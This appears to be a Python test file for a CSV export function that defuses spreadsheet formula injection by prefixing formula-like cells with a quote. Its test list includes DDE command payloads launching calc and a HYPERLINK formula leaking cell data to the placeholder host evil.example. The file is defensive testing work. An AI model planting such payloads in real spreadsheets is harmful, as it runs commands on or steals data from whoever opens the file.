"""Cells a spreadsheet would run as formulas are written as text (issue 13, class 1; OWASP)."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from workbench.domain.spreadsheet import FORMULA_STARTS, safe_cell, write_rows

ATTACKS = [
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "\t=1+1",
    "\r=1+1",
    "-5+A1",
    "- 5",
    "-",
    "+",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_formula_like_text_gets_a_leading_quote_and_is_otherwise_unchanged(attack):
    assert safe_cell(attack) == "'" + attack


@pytest.mark.parametrize("number", ["-5", "-12.50", "+3", "-0.5", "-.5", "-1e6", "-2E-3", -5, -12.5])
def test_plain_numbers_stay_numbers(number):
    """Decision: a negative amount is data a rep sums, not a formula; it cannot call anything."""
    assert safe_cell(number) == str(number)


@pytest.mark.parametrize("value, text", [(None, ""), ("", ""), ("Acme Corp.", "Acme Corp."),
                                         (42, "42"), (False, "False"), ("a=b", "a=b"),
                                         (" =1+1", " =1+1"), ("'=1+1", "'=1+1")])
def test_ordinary_values_are_written_as_they_are(value, text):
    assert safe_cell(value) == text


@given(st.text())
def test_no_cell_starts_a_formula_and_nothing_but_the_quote_is_added(text):
    cell = safe_cell(text)
    assert cell in (text, "'" + text)
    if cell.startswith(FORMULA_STARTS):
        float(cell)  # only a plain number may start with a sign


def test_every_cell_is_quoted_so_another_locales_separator_cannot_start_a_cell():
    out = io.StringIO(newline="")
    write_rows(out, ["name", "amount"], [["x;=HYPERLINK(1)", -5], ["=1+1", None]])
    assert out.getvalue().splitlines() == ['"name","amount"', '"x;=HYPERLINK(1)","-5"',
                                           '"\'=1+1",""']
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["name", "amount"], ["x;=HYPERLINK(1)", "-5"], ["'=1+1", ""]]


@given(st.text())
def test_restoring_an_exported_cell_gives_the_text_back(text):
    from workbench.domain.spreadsheet import restore_cell
    if not (text.startswith("'") and text[1:].startswith(FORMULA_STARTS)):  # "'=…" itself is lost
        assert restore_cell(safe_cell(text)) == text


def test_write_rows_counts_the_rows_and_reads_back_as_data():
    """The console's audit export and the desktop export write through the same function."""
    buffer = io.StringIO()
    count = write_rows(buffer, ["company", "note"], [["=1+1", "ok"], ["Acme", "@x"]])
    assert count == 2
    rows = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert rows == [["company", "note"], ["'=1+1", "ok"], ["Acme", "'@x"]]
